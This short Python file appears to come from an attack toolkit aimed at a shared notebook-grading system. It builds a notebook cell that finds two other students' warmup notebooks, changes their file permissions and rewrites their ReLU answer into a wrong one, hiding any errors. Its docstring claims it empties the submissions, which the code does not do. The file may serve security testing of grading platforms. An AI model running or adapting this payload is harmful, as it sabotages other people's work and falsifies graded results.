"""Empty the submissions of everybody else, and what was graded of them."""

from attack_kit import FIND

CELL = (
    FIND
    + """
for path in find("00_warmup.ipynb"):
    if "zoe" in path.parts or "amy" in path.parts:
        try:
            path.chmod(0o600)
            path.write_text(path.read_text().replace("np.maximum(0, x)", "x"))
        except OSError:
            pass
"""
)
